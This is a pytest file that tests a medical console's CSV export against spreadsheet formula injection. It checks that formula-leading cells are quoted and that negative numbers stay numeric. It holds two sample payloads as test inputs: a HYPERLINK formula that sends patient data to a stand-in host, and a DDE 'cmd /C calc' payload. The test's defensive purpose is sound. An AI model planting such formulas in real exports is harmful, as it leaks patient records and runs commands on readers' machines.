"""CSV export: no cell a spreadsheet would run as a formula (OWASP "CSV injection").

The start screen accepts any visible patient identifier and nurse name (`start_checks`), and
every row of both files starts with the patient's. Written raw, a cell starting with = + - @ is
a formula in Excel or LibreOffice: `=HYPERLINK("http://…?"&D2,"MRN-4711")` made every row a
link sending its neighbouring cells (the MRN, the values) to a web site (an exports review,
3 Dec 2026). Such a cell is written with a `'` before it; a plain number never is.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from console.export.csv_export import safe_cell, write_session_csv
from console.review.queries import load_session, open_readonly
from console.session.start_checks import StartEntry, check_start
from console.store import EventLog
from protocols.loader import builtin_protocols_dir, load_protocol
from tests.review.scenarios import Driver

PATIENT = '=HYPERLINK("http://x.example/?"&D2,"MRN-4711")'
NURSE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_patient_id_and_nurse_name_shaped_as_formulas_open_as_text(
        tmp_path: Path) -> None:
    iv = load_protocol(builtin_protocols_dir() / "iv-ketamine.toml")
    entry = StartEntry(patient_id=PATIENT, weight="72", protocol_id="iv-ketamine", nurse=NURSE,
                       device_url=None, device_format=None, session_number=1)
    assert check_start(entry, {"iv-ketamine": iv}).problems == ()   # the chair accepts both
    path = tmp_path / "log.sqlite3"
    log = EventLog.open(path, "test", now=datetime(2026, 3, 1, 8, 0, tzinfo=UTC))
    try:
        r = Driver(log, "iv-ketamine", PATIENT, 72.0, NURSE,
                   datetime(2026, 3, 2, 9, 0, tzinfo=UTC), 1)
        r.manual(bp_systolic=124, bp_diastolic=80, heart_rate=70)
        session = r.id
    finally:
        log.close()
    conn = open_readonly(path)
    try:
        detail = load_session(conn, session, with_observations=True)
    finally:
        conn.close()
    files = write_session_csv(detail, tmp_path / "out")
    observations, events = read(files["observations"]), read(files["events"])
    # No cell of either file starts a formula, other than a plain number.
    live = [(file.name, n, column, cell)
            for file, rows in ((files["observations"], observations), (files["events"], events))
            for n, row in enumerate(rows, 2) for column, cell in row.items()
            if cell.startswith(FORMULA_START) and not is_number(cell)]
    assert live == [], live[:4]
    # The identifier and the name are still there whole, to be read (and stripped of the `'`).
    assert {row["patient_id"] for row in observations + events} == {"'" + PATIENT}
    assert {row["entered_by"] for row in observations} == {"'" + NURSE}
    assert {row["actor"] for row in events if row["kind"] == "phase_started"} == {"'" + NURSE}
    # The values stay numbers.
    assert {row["value"] for row in observations} >= {"124", "80", "70"}


@pytest.mark.parametrize("cell", ["-3", "-0.5", "+2", "1e-05", "-1.5E+3", "0", "72"])
def test_a_negative_number_such_as_rass_minus_3_stays_a_number(cell: str) -> None:
    # A spreadsheet reads "-3" as the number -3 (a RASS of -3), never as a formula to defuse.
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell", [
    "=1+1", "+SUM(A1)", "-3 mmHg", "-A1", "@SUM(1)", "\t=1", "\r=1", "-", "+", "=",
    "-inf", "-nan",
])
def test_a_text_cell_starting_a_formula_gets_a_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["MRN-4711", "nurse.ben", "", " =1", "2026-03-02T09:00:00.000Z"])
def test_other_text_is_written_as_it_is(cell: str) -> None:
    assert safe_cell(cell) == cell
